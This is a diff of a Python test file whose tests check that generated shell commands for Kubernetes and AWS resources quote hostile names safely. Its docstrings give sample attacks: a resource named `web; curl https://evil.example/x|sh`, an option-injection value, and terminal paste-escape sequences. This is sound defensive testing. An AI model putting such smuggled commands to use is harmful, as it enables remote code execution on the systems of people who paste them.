@@ -115,16 +115,15 @@ CALLS: dict[str, tuple[Callable[[str], str], list[str]]] = {
 }
 
 
-@pytest.mark.parametrize("value", HOSTILE)
 @pytest.mark.parametrize("name", CALLS)
-def test_a_value_stays_one_word(name: str, value: str) -> None:
+def test_a_value_stays_one_word(name: str) -> None:
     """Protects who pastes a command: no value ends a word, starts another command or is expanded.
 
     The attack: a Pod, a role or a policy named `web; curl https://evil.example/x|sh`.
     """
     call, words = CALLS[name]
-
-    assert shlex.split(call(value)) == [word.replace("{}", value) for word in words]
+    for value in HOSTILE:
+        assert shlex.split(call(value)) == [word.replace("{}", value) for word in words]
 
 
 @pytest.mark.parametrize("value", ["-EVIL", "--kubeconfig=https://evil.example"])
@@ -182,15 +181,14 @@ def test_the_aws_cli_sends_a_value_as_it_is(name: str, value: str) -> None:
     assert [each for each in sent if isinstance(each, tuple)] == []
 
 
-@pytest.mark.parametrize("value", UNPASTABLE)
 @pytest.mark.parametrize("name", [name for name, (_, words) in CALLS.items() if "{}" in " ".join(words)])
-def test_no_command_for_what_cannot_be_pasted(name: str, value: str) -> None:
+def test_no_command_for_what_cannot_be_pasted(name: str) -> None:
     """Protects a terminal: quotes do not hold what ends a paste, the input line, or the line on the screen.
 
     The attack: a policy whose name ends the paste (ESC [201~), kills the line (Ctrl-C) and types a command. An audience
     with `##[`, which commands CI, would be another one where it is printed.
     """
-    assert CALLS[name][0](value) == ""
+    assert [value for value in UNPASTABLE if CALLS[name][0](value)] == []
 
 
 def test_no_half_of_two_commands() -> None:
